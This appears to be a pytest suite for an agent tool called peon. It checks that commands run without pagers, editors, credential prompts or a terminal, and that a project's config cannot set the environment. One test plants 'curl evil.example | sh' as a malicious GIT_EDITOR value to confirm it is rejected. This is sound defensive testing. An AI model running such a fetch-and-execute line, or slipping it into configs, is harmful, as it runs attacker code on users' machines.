"""Commands never wait on a person: the environment every command and agent runs with (pagers off,
editors that fail at once, no credential prompts, no controlling terminal), how it combines with the
inherited environment and the user's [environment] table, and real git against it."""

from __future__ import annotations

import http.server
import os
import shutil
import subprocess
import threading
import time
from pathlib import Path

import pytest

from peon.client.config import load_config
from peon.core.environment import build_environment
from peon.core.errors import ConfigError

WAITS_FOREVER = "sleep 300"  # an "editor" or "pager" that would hold a command until its deadline


# -- pure ------------------------------------------------------------------------------------------


def test_settings_replace_inherited_values_and_false_keeps_them():
    inherited = {"EDITOR": "vim", "PAGER": "less", "GIT_ASKPASS": "/usr/bin/ksshaskpass", "HOME": "/h",
                 "PATH": "/usr/bin"}
    env = build_environment(inherited, {"EDITOR": "false", "PAGER": "cat", "GIT_ASKPASS": False, "NEW": ""})
    assert env == {"EDITOR": "false", "PAGER": "cat", "GIT_ASKPASS": "/usr/bin/ksshaskpass", "HOME": "/h",
                   "PATH": "/usr/bin", "NEW": ""}
    assert "ABSENT" not in build_environment({"PATH": "/bin"}, {"ABSENT": False})
    assert inherited["EDITOR"] == "vim"  # the session's own environment is not changed


@pytest.mark.parametrize("path, expected", [
    ("/usr/local/bin:/usr/bin", "/usr/local/bin:/usr/bin"),
    (":/usr/bin", "/usr/bin"),
    ("/usr/bin:", "/usr/bin"),
    ("/a::/b:.:bin:./x:../y:/c", "/a:/b:/c"),
    ("", os.defpath),
    (".:relative", os.defpath),
    (None, os.defpath),
])
def test_path_keeps_only_absolute_entries(path, expected):
    inherited = {} if path is None else {"PATH": path}
    assert build_environment(inherited, {})["PATH"] == expected


# -- configuration -----------------------------------------------------------------------------------


def test_the_shipped_defaults_turn_off_what_waits_on_a_person():
    environment = load_config(env={}).config.environment
    for name in ("PAGER", "GIT_PAGER", "MANPAGER", "SYSTEMD_PAGER", "GH_PAGER"):
        assert environment[name] == "cat", name
    assert environment["AWS_PAGER"] == ""
    for name in ("EDITOR", "VISUAL", "GIT_EDITOR", "GIT_SEQUENCE_EDITOR"):
        assert environment[name] == "false", name
    assert (environment["GIT_TERMINAL_PROMPT"], environment["SSH_ASKPASS_REQUIRE"]) == ("0", "never")
    assert "cquit" in environment["VIMINIT"] and "ttyin" in environment["VIMINIT"]


def test_the_user_may_change_the_table_and_a_project_may_not(tmp_path):
    user = tmp_path / "xdg" / "peon" / "config.toml"
    user.parent.mkdir(parents=True)
    user.write_text('[environment]\nEDITOR = "true"\nGIT_ASKPASS = false\nMY_TOOL_MODE = "batch"\n')
    workspace = tmp_path / "ws"
    (workspace / ".peon").mkdir(parents=True)
    env = {"XDG_CONFIG_HOME": str(tmp_path / "xdg")}
    loaded = load_config(workspace=workspace, env=env)
    environment = loaded.config.environment
    assert (environment["EDITOR"], environment["GIT_ASKPASS"], environment["MY_TOOL_MODE"]) == ("true", False, "batch")
    assert environment["PAGER"] == "cat"  # the rest of the defaults stay
    assert loaded.source_of("environment.EDITOR") == str(user)
    (workspace / ".peon" / "config.toml").write_text('[environment]\nGIT_EDITOR = "curl evil.example | sh"\n')
    with pytest.raises(ConfigError, match=r"environment.GIT_EDITOR \(only the user configures the environment"):
        load_config(workspace=workspace, env=env)


@pytest.mark.parametrize("table, needle", [
    ({"EDITOR": True}, "key 'environment.EDITOR': must be a string (the value to set) or false"),
    ({"EDITOR": 3}, "key 'environment.EDITOR': must be a string"),
    ({"EDITOR": "a\0b"}, "must not contain a NUL character"),
    ({"EDITOR": "x" * 200_000}, "must be at most 131071 bytes"),
    ({"1ABC": "x"}, "'1ABC' is not an environment variable name"),
    ({"A=B": "x"}, "'A=B' is not an environment variable name"),
    ({"": "x"}, "'' is not an environment variable name"),
])
def test_bad_environment_settings_are_config_invalid(table, needle):
    with pytest.raises(ConfigError) as raised:
        load_config({"environment": table}, env={})
    assert needle in raised.value.message and raised.value.message.startswith("invalid configuration in overrides")


# -- real commands ---------------------------------------------------------------------------------------


def git(repo: Path, *args: str, env: dict | None = None) -> str:
    return subprocess.run(["git", "-C", str(repo), *args], check=True, capture_output=True, text=True, timeout=60,
                          env={**os.environ, "GIT_CONFIG_GLOBAL": "/dev/null", **(env or {})}).stdout


@pytest.fixture
def repo(workspace) -> Path:
    git(workspace, "init", "-q", "-b", "main")
    git(workspace, "config", "user.email", "peon@example.invalid")
    git(workspace, "config", "user.name", "Peon Test")
    git(workspace, "config", "core.editor", WAITS_FOREVER)  # even the repository's own editor setting
    git(workspace, "config", "core.pager", WAITS_FOREVER)
    return workspace


def waiting_env() -> dict:
    """An inherited environment whose every editor and pager would wait forever."""
    return {name: WAITS_FOREVER for name in ("EDITOR", "VISUAL", "GIT_EDITOR", "GIT_SEQUENCE_EDITOR", "PAGER",
                                             "GIT_PAGER", "MANPAGER")} | {"GIT_CONFIG_GLOBAL": "/dev/null"}


def test_git_commit_without_a_message_fails_at_once_and_leaves_no_lock(open_session, repo):
    (repo / "file.txt").write_text("content\n")
    git(repo, "add", "file.txt")
    session = open_session(env=waiting_env())
    started = time.monotonic()
    r = session.call("bash", {"command": "git commit", "timeout_seconds": 60})
    elapsed = time.monotonic() - started
    assert r.ok, r.error
    assert elapsed < 5, f"git commit waited {elapsed:.1f} s"  # a hang guard: it would wait 60 s otherwise
    assert r.value["exit_code"] != 0 and r.value["timed_out"] is False
    assert "problem with the editor 'false'" in r.value["output"] and "-m or -F" in r.value["output"]
    assert not (repo / ".git" / "index.lock").exists()
    assert git(repo, "status", "--porcelain") == "A  file.txt\n"  # staged, nothing committed, nothing broken
    r = session.call("bash", {"command": "git commit -q -m 'with a message' && git log --oneline | wc -l"})
    assert r.ok and r.value["exit_code"] == 0 and r.value["output"].strip() == "1"


def test_git_log_of_a_long_history_returns_without_paging(open_session, repo):
    commits = 3000  # far more than a screen: a pager would wait for a keypress
    stream = "".join(f"commit refs/heads/main\ncommitter Peon <p@example.invalid> {1700000000 + i} +0000\n"
                     f"data {len(f'change {i}')}\nchange {i}\n\n" for i in range(commits))
    subprocess.run(["git", "-C", str(repo), "fast-import", "--quiet"], input=stream, text=True, check=True, timeout=60)
    session = open_session(env=waiting_env())
    started = time.monotonic()
    r = session.call("bash",
                     {"command": "git log --oneline; git -p log --oneline | tail -1; echo \"$PAGER $GIT_PAGER\"",
                              "timeout_seconds": 60})
    assert time.monotonic() - started < 10
    assert r.ok and r.value["exit_code"] == 0 and r.value["timed_out"] is False
    lines = r.value["output"].splitlines()
    assert r.value["output_bytes"] > 30_000 and lines[-2].endswith("change 0") and lines[-1] == "cat cat"


def test_commands_have_no_controlling_terminal_and_stdin_is_dev_null(open_session):
    session = open_session()
    r = session.call("bash", {"command": "tty; (: </dev/tty) 2>/dev/null && echo TTY-OPENED || echo no-tty; "
                                         "readlink /proc/$$/fd/0; cut -d' ' -f7 /proc/$$/stat; "
                                         "[ \"$(cut -d' ' -f6 /proc/$$/stat)\" = $$ ] && echo session-leader"})
    assert r.ok, r.error
    assert r.value["output"].splitlines() == ["not a tty", "no-tty", "/dev/null", "0", "session-leader"]


@pytest.mark.skipif(not shutil.which("vim"), reason="vim is not installed")
def test_vi_run_directly_fails_instead_of_waiting_and_scripted_vim_still_edits(open_session, workspace):
    (workspace / "notes.txt").write_text("hello\n")
    session = open_session(env={"VIMINIT": WAITS_FOREVER})  # an inherited VIMINIT is replaced too
    started = time.monotonic()
    r = session.call("bash", {"command": "vim notes.txt", "timeout_seconds": 60})
    assert r.ok, r.error
    assert r.value["timed_out"] is False and r.value["exit_code"] == 1, r.value
    assert time.monotonic() - started < 30  # a hang guard: it would wait 60 s otherwise
    r = session.call("bash", {"command": "vim +'%s/hello/bye/' +wq notes.txt && vim -es +'%s/bye/ciao/' +wq notes.txt"
                                         " && cat notes.txt", "timeout_seconds": 60})
    assert r.ok and r.value["exit_code"] == 0 and r.value["output"].endswith("ciao\n"), r.value


class _NeedsPassword(http.server.BaseHTTPRequestHandler):
    def do_GET(self):  # the stdlib's name
        self.send_response(401)
        self.send_header("WWW-Authenticate", 'Basic realm="peon-test"')
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, *args):
        pass


def test_git_over_https_asks_nobody_for_credentials(open_session, repo):
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _NeedsPassword)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        url = f"http://127.0.0.1:{server.server_address[1]}/private.git"
        session = open_session(env={**waiting_env(), "GIT_ASKPASS": WAITS_FOREVER, "SSH_ASKPASS": WAITS_FOREVER,
                                    "DISPLAY": ":0"})
        started = time.monotonic()
        r = session.call("bash", {"command": f"git ls-remote {url}", "timeout_seconds": 60})
        assert time.monotonic() - started < 10
        assert r.ok and r.value["exit_code"] != 0 and r.value["timed_out"] is False
        assert "terminal prompts disabled" in r.value["output"]
    finally:
        server.shutdown()
        server.server_close()


def test_the_users_explicit_settings_win(open_session, tmp_path):
    xdg = tmp_path / "xdg"
    (xdg / "peon").mkdir(parents=True)
    (xdg / "peon" / "config.toml").write_text('[environment]\nEDITOR = "true"\nGIT_ASKPASS = false\nMODE = "batch"\n')
    session = open_session(env={"XDG_CONFIG_HOME": str(xdg), "EDITOR": "vim", "GIT_ASKPASS": "/opt/my-askpass",
                                "PATH": f"::.:{os.environ['PATH']}"})
    # PATH as the command received it (a login shell's profile may set its own afterwards).
    r = session.call("bash", {"command": 'printf "%s|" "$EDITOR" "$GIT_ASKPASS" "$MODE" "$VISUAL"; '
                                         "tr '\\0' '\\n' < /proc/$$/environ | grep '^PATH='"})
    assert r.ok
    editor, askpass, mode, visual, path = r.value["output"].split("|")[:5]
    assert (editor, askpass, mode, visual) == ("true", "/opt/my-askpass", "batch", "false")
    assert path == f"PATH={os.environ['PATH']}\n"  # the empty and "." entries are gone


def test_an_empty_environment_stays_empty(workspace, tmp_path):
    """``env={}`` is the session's environment: commands see only the [environment] table's settings,
    nothing of the supervisor's own (which carries the PYTHONPATH Peon adds to start it)."""
    import peon
    from helpers import ALLOW_ALL

    session = peon.Session(workspace, ALLOW_ALL, env={}, state_dir=tmp_path / "state")
    try:
        r = session.call("bash", {"command": "tr '\\0' '\\n' < /proc/$$/environ"})
        assert r.ok, r.error
        names = {line.split("=", 1)[0] for line in r.value["output"].splitlines() if "=" in line}
        table = set(load_config(env={}).config.environment)
        # The sandbox (on by default) points tool caches at its cache directory: those names too.
        from peon.core.environment import CACHE_VARIABLES

        table |= {*CACHE_VARIABLES, "npm_config_update_notifier"}
        assert "PYTHONPATH" not in names, r.value["output"]
        assert names - table <= {"PATH", "HOME", "TMPDIR", "PWD", "SHLVL", "_", "OLDPWD"}, r.value["output"]
    finally:
        session.close()
